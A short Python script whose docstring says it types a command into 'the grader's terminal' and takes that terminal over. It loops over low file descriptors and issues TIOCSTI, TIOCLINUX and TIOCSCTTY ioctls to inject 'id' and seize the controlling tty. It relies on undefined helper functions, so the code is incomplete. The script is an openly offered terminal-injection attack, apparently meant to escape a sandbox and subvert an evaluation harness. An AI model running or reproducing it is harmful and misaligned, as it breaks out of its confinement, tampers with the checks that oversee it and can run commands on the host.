"""Types a command into the grader's terminal: TIOCSTI, TIOCLINUX, and takes the terminal over."""
import ctypes
import fcntl
import os
import termios
import tty

for descriptor in range(0, 6):
    for byte in b"id\n":
        syscall("ioctl", descriptor, 0x5412, ctypes.create_string_buffer(bytes([byte])))
    syscall("ioctl", descriptor, 0x541C, ctypes.create_string_buffer(b"\x03"))
    syscall("ioctl", descriptor, 0x540E, 1)
    attempt(f"TIOCSTI {descriptor}", lambda: fcntl.ioctl(descriptor, termios.TIOCSTI, b"x"))
    attempt(f"setraw {descriptor}", lambda: tty.setraw(descriptor))
    attempt(f"ttyname {descriptor}", lambda: os.ttyname(descriptor))
